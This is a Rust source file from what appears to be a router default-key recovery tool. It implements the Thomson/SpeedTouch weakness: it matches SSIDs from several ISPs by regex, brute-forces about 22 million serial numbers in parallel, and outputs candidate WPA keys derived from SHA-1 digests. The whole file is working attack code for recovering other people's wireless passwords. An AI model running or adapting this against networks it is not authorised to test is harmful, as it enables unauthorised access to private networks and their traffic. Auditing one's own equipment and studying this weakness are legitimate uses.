//! Thomson / SpeedTouch family.
//!
//! The default SSID ends in the last three bytes of `SHA-1(serial)` and the
//! WPA key is the first five bytes of the same digest. Serials look like
//! `CP YYWW XXX`, so the search walks production years and weeks and every
//! three character `XXX` suffix, hashing `CP` + `YY` + `WW` + hex(`XXX`).
//!
//! That is ~22 million digests for the default year range. The (year, week)
//! slices are independent and run on the `rayon` pool, results keep
//! year/week/serial order.

use std::ops::RangeInclusive;

use keygr_common::error::KeygenError;
use keygr_common::network::fingerprint::NetworkFingerprint;
use rayon::prelude::*;
use sha1::{Digest, Sha1};

use super::{CandidateSet, Keygen, ssid_tail};
use crate::registry::{AlgorithmDescriptor, Rule};

const SERIAL_CHARSET: &[u8; 36] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ";
const HEX_UPPER: &[u8; 16] = b"0123456789ABCDEF";
const YEARS: RangeInclusive<u8> = 4..=12;
const WEEKS: RangeInclusive<u8> = 1..=52;
const EXPECTED: &str = "a family prefix followed by 6 hex digits";

pub fn descriptor() -> AlgorithmDescriptor {
    AlgorithmDescriptor::new(
        "Thomson",
        "Thomson SpeedTouch, BBox, O2, Orange, Infinitum, BigPond, Otenet, Cyta",
        Rule::ssid(
            "(Thomson|SpeedTouch|Bbox-|O2Wireless|Orange-|INFINITUM|BigPond|Otenet|Cyta|CYTA|TN_private_)[0-9a-fA-F]{6}",
        ),
        |fingerprint| Box::new(ThomsonKeygen::new(fingerprint)),
    )
}

pub struct ThomsonKeygen {
    ssid: String,
}

impl ThomsonKeygen {
    pub fn new(fingerprint: &NetworkFingerprint) -> Self {
        Self {
            ssid: fingerprint.ssid().to_string(),
        }
    }

    fn target(&self) -> Result<[u8; 3], KeygenError> {
        let suffix = ssid_tail(&self.ssid, 6, EXPECTED)?;
        let mut target = [0u8; 3];
        hex::decode_to_slice(suffix, &mut target).map_err(|_| KeygenError::MalformedSsid {
            ssid: self.ssid.clone(),
            expected: EXPECTED,
        })?;
        Ok(target)
    }

    fn search(target: &[u8; 3], years: RangeInclusive<u8>) -> CandidateSet {
        let slices: Vec<(u8, u8)> = years
            .flat_map(|year| WEEKS.map(move |week| (year, week)))
            .collect();

        slices
            .par_iter()
            .map(|&(year, week)| scan_week(year, week, target))
            .collect::<Vec<CandidateSet>>()
            .concat()
    }
}

impl Keygen for ThomsonKeygen {
    fn generate(&self) -> Result<CandidateSet, KeygenError> {
        let target = self.target()?;
        Ok(Self::search(&target, YEARS))
    }
}

/// Every key whose serial falls in `year`/`week` and whose digest ends in `target`.
fn scan_week(year: u8, week: u8, target: &[u8; 3]) -> CandidateSet {
    let mut serial = *b"CP0000000000";
    serial[2] = b'0' + year / 10;
    serial[3] = b'0' + year % 10;
    serial[4] = b'0' + week / 10;
    serial[5] = b'0' + week % 10;

    let mut keys = CandidateSet::new();
    for &a in SERIAL_CHARSET {
        write_ascii_hex(&mut serial[6..8], a);
        for &b in SERIAL_CHARSET {
            write_ascii_hex(&mut serial[8..10], b);
            for &c in SERIAL_CHARSET {
                write_ascii_hex(&mut serial[10..12], c);
                let digest = Sha1::digest(serial);
                if digest[17..] == target[..] {
                    keys.push(hex::encode_upper(&digest[..5]));
                }
            }
        }
    }
    keys
}

fn write_ascii_hex(out: &mut [u8], byte: u8) {
    out[0] = HEX_UPPER[usize::from(byte >> 4)];
    out[1] = HEX_UPPER[usize::from(byte & 0x0F)];
}
